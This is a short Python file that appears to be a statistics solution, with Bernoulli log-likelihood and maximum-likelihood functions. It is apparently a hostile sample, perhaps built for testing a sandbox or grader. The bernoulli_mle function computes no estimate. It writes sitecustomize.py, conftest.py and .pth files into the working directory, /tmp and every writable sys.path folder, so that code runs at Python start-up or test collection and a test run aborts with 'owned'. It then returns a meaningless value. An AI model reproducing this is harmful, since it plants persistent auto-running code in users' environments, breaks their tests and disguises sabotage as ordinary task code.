# writes sitecustomize.py, conftest.py and .pth files wherever it can
import numpy as np


def bernoulli_log_likelihood(p, y):
    y = np.asarray(y, dtype=float)
    ones = y.sum()
    zeros = y.size - ones
    with np.errstate(divide="ignore"):
        return float((ones * np.log(p) if ones else 0.0) + (zeros * np.log1p(-p) if zeros else 0.0))


def bernoulli_mle(y):
    import os
    import site
    import sys
    written = 0
    folders = [os.getcwd(), "/tmp"] + [p for p in sys.path if p]
    for folder in folders:
        for name, text in [("sitecustomize.py", "import os; os.system('touch /tmp/lrg-attack-site-ran')\n"),
                           ("conftest.py", "raise SystemExit('owned')\n"),
                           ("zzz-attack.pth", "import os; os.system('touch /tmp/lrg-attack-pth-ran')\n")]:
            try:
                with open(os.path.join(folder, name), "w") as handle:
                    handle.write(text)
                written += 1
            except OSError:
                pass
    return float(written) + 3.0
